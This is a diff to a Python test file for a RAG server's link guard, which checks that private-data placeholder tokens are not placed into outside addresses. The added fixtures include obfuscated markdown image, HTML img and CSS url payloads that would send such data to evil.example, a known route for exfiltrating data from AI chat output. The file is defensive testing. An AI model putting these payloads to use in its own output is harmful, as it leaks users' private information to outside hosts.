@@ -4,7 +4,7 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from rag_server.edge.links import GuardedStream, replace_outside_addresses
+from rag_server.edge.links import GuardedStream, Surroundings, replace_outside_addresses
 
 TOKEN = "PERSON_[q2Zf]"
 
@@ -31,6 +31,16 @@ KEPT_OUT = [
     "![](https&colon;//evil.example/{})",
     "![](&#47;&#47;evil.example/{})",
     "![](https://evil.example/\u00a0{})",
+    "![](<https://evil.example/?q=\\> {}>)",
+    "![](<https://evil.example/?q=\\< {}>)",
+    "![](https\\:evil.example/?q={})",
+    '<img alt=">" src="https://evil.example/?q= {}">',
+    "<div ' ><img alt='>' src= 'https://evil.example/?q= {}'>",
+    '<img src="https://evil.example/?q= <{}">',
+    '<img src="ht\ntps:/\t/evil.example/?q={}">',
+    '<img src="/&Tab;/evil.example/?q={}">',
+    "<p style=background:url(\\2f\\2fevil.example\\2f{})>",
+    "www.evil.example/{}",
 ]
 RESTORED = [
     "{} rests [1].",
@@ -43,6 +53,9 @@ RESTORED = [
     "<b>{}</b>",
     "and/or {} 1/2{}",
     "note: {}",
+    'the "site" https://clinic.example is {}',
+    "<a href='https://clinic.example/x'> {}</a>",
+    "we don't use https://clinic.example for {}",
 ]
 
 
@@ -80,3 +93,25 @@ def test_in_json_a_quotation_mark_ends_an_address_and_an_escaped_one_does_not():
     assert replace_outside_addresses(compact % (TOKEN, TOKEN), plain, in_json=True) == expected
     escaped = '{"site":"https://x.example/\\"' + TOKEN
     assert replace_outside_addresses(escaped, plain, in_json=True) == escaped
+
+
+def test_in_json_an_address_in_unicode_escapes_is_one():
+    source = '{"site":"\\u0068ttps\\u003a\\u002f\\u002fx.example\\u002f' + TOKEN
+    assert replace_outside_addresses(source, plain, in_json=True) == source
+    attribute = '{"page":"<img alt=\\">\\" src=\\"https://x.example/?q= ' + TOKEN
+    assert replace_outside_addresses(attribute, plain, in_json=True) == attribute
+
+
+def test_a_value_that_is_an_address_lets_no_other_value_follow_it():
+    values = {"URL_[q2Zf]": "https://evil.example", TOKEN: "Maria Keller"}
+    text = f"![](URL_[q2Zf]?q={TOKEN}) {TOKEN}"
+    shown = replace_outside_addresses(text, lambda match: values[match.group()])
+    assert shown == f"![](https://evil.example?q={TOKEN}) Maria Keller"
+
+
+def test_what_is_remembered_of_a_text_is_bounded():
+    around = Surroundings()
+    for piece in ["<", "a" * 10_000, '="', "b" * 10_000, "https:", "c" * 10_000]:
+        around.read(piece)
+        assert sum(map(len, around._open.values())) <= 40
+    assert around.in_address
